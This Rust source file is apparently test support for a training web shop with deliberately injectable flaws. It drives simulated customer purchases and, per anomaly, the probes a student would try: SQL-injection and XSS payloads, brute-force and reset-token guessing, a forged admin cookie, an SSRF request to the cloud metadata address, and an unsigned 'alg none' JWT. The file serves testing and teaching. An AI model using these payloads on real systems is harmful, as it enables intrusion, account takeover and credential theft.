// SPDX-License-Identifier: AGPL-3.0-or-later
//! What customers do while it is looked, and somebody who tries the flaws: the same with an anomaly and without.

use std::ops::Range;
use std::sync::Arc;

use perfshop_chaos::Anomaly;
use perfshop_server::work::fulfilment::round_at;
use serde_json::{Value, json};

use crate::evidence::oversold;
use crate::security::accounts::{asked, learner, log_in, md5};
use crate::security::portal::{bearing, forged};
use crate::util::app::{Client, TestApp, json_request};
use crate::util::shopper::{card, number, set_product, signed_in};

/// A product whose price has cents, and as many pieces as anybody wants.
const PRODUCT: i64 = 2;
const MINUTE: i64 = 60_000;

/// Customers of a phase that nobody else is.
pub fn customers(phase: u64) -> Range<i64> {
    let first = 10 + 30 * i64::try_from(phase).unwrap();
    first..first + 30
}

pub struct Traffic<'a> {
    pub app: &'a Arc<TestApp>,
    /// The first of ten customers whose turn it is.
    pub customer: i64,
    /// Whether it is on.
    pub on: bool,
}

/// A customer's browser in the middle of it.
struct Visit<'a> {
    client: Client<'a>,
    token: String,
}

impl Traffic<'_> {
    /// What shows this anomaly.
    pub async fn of(&self, anomaly: Anomaly) {
        set_product(self.app, PRODUCT, 12_90, 1_000).await;
        match anomaly {
            Anomaly::A8 => self.last_piece().await,
            Anomaly::A10 => self.cancelled_order().await,
            Anomaly::A11 => self.logged_out_session().await,
            _ => {
                let visit = self.enter(0).await;
                // A code that nobody knows; where codes themselves break, one that there is.
                let code = if anomaly == Anomaly::F2 { "SAVE5" } else { "NOSUCHCODE" };
                let order = visit.buy(code).await;
                visit.try_to("GET", &format!("/api/orders/{order}/invoice"), None).await;
                visit.try_to("GET", "/api/products/search?q=lampe", None).await;
                self.exploit(anomaly, &visit).await;
            }
        }
    }

    async fn enter(&self, more: i64) -> Visit<'_> {
        let (client, token) = signed_in(self.app, self.customer + more).await;
        Visit { client, token }
    }

    async fn last_piece(&self) {
        let wait_for = if self.on { oversold::LOOK } else { oversold::FIRST_ORDER };
        oversold::at_once(self.app, self.customer, wait_for).await;
    }

    async fn cancelled_order(&self) {
        let visit = self.enter(0).await;
        let order = visit.buy("NOSUCHCODE").await;
        visit.try_to("POST", &format!("/api/orders/{order}/cancel"), Some(Value::Null)).await;
        let placed = number(self.app, "SELECT MAX(created_at) FROM orders", &[]).await;
        round_at(&self.app.state, placed + 5 * MINUTE).await.unwrap();
    }

    async fn logged_out_session(&self) {
        let visit = self.enter(0).await;
        let cookie = visit.client.cookie("JSESSIONID").unwrap();
        visit.try_to("POST", "/api/auth/logout", Some(Value::Null)).await;
        visit.client.keep("JSESSIONID", &cookie);
        visit.try_to("GET", "/api/auth/me", None).await;
    }

    /// The calls of a student who tries a flaw. They are the same while it is not there, and lead nowhere then.
    async fn exploit(&self, anomaly: Anomaly, visit: &Visit<'_>) {
        let ada = learner(self.app, &format!("Ada {}", self.customer)).await;
        let call = async |method: &str, path: &str, body: Option<Value>| {
            ada.client.send(json_request(method, path, body)).await
        };
        match anomaly {
            Anomaly::S1 => drop(call("GET", "/api/products/search?q=%27", None).await),
            Anomaly::S2 => {
                let reviews = format!("/api/products/{}/reviews", self.customer);
                let review = json!({"rating": 1, "text": "<img src=x onerror=alert(1)>"});
                call("POST", &reviews, Some(review)).await;
                call("GET", &reviews, None).await;
                call("GET", "/api/products/search?q=%3Csvg%3E", None).await;
            }
            Anomaly::S3 => drop(call("GET", "/api/auth/me", None).await),
            // Somebody else's.
            Anomaly::S4 => drop(call("GET", "/api/orders/7", None).await),
            // More guesses than a healthy shop takes.
            Anomaly::S5 => {
                for guess in 0..20 {
                    let email = format!("user{}@perfshop.com", 200 + self.customer);
                    let account = json!({"email": email, "password": format!("guess {guess}")});
                    call("POST", "/api/auth/login", Some(account)).await;
                }
            }
            Anomaly::S7 => {
                let told = log_in(&ada.client, &ada.email, &ada.password).await.headers.get("x-debug-token").cloned();
                let mut request = json_request("GET", "/api/debug/session", None);
                request.headers_mut().insert("x-debug-token", told.unwrap_or_else(|| "0".repeat(64).parse().unwrap()));
                ada.client.send(request).await;
            }
            Anomaly::S8 => {
                asked(self.app, &ada.client, "user450@perfshop.com").await;
                for number in 1..30 {
                    let guess = json!({"token": md5(number), "password": "taken over 1"});
                    call("POST", "/api/auth/password/reset", Some(guess)).await;
                }
            }
            Anomaly::S9 => visit.try_to("PUT", "/api/auth/me", Some(json!({"loyaltyPoints": 100}))).await,
            Anomaly::S10 => {
                ada.client.keep("portal_role", "admin");
                call("GET", "/api/admin/portal/users", None).await;
            }
            Anomaly::S11 => {
                let account = json!({"email": ada.email, "password": ada.password});
                let entered = call("POST", "/api/admin/portal/login", Some(account)).await;
                let token = entered.json()["token"].as_str().unwrap_or_default().to_owned();
                let address = json!({"url": "http://169.254.169.254/latest/meta-data/"});
                let preview = json_request("POST", "/api/admin/portal/preview", Some(address));
                ada.client.send(bearing(preview, &token)).await;
            }
            Anomaly::S12 => {
                let claims = json!({"sub": "1", "role": "admin", "exp": 4_000_000_000_i64});
                let token = forged(r#"{"alg":"none"}"#, &claims, None);
                ada.client.send(bearing(json_request("GET", "/api/admin/portal/orders", None), &token)).await;
            }
            _ => {}
        }
    }
}

impl Visit<'_> {
    /// Whatever comes of it: what is on may break any of these.
    async fn try_to(&self, method: &str, path: &str, body: Option<Value>) {
        self.client.send(json_request(method, path, body)).await;
    }

    /// A purchase with this code, the fast way. Gives the order's number, 0 when there is none.
    async fn buy(&self, code: &str) -> i64 {
        self.try_to("POST", "/api/cart/add", Some(json!({"productId": PRODUCT, "quantity": 4}))).await;
        self.try_to("POST", "/api/checkout/address", Some(json!({}))).await;
        self.try_to("POST", "/api/checkout/promo", Some(json!({"code": code}))).await;
        self.try_to("POST", "/api/checkout/shipping", Some(json!({"mode": "express"}))).await;
        self.try_to("POST", "/api/checkout/payment", Some(card())).await;
        let placed = self.client.post("/api/orders", json!({"securityToken": self.token})).await;
        if placed.status == 201 { placed.json()["orderId"].as_i64().unwrap_or(0) } else { 0 }
    }
}
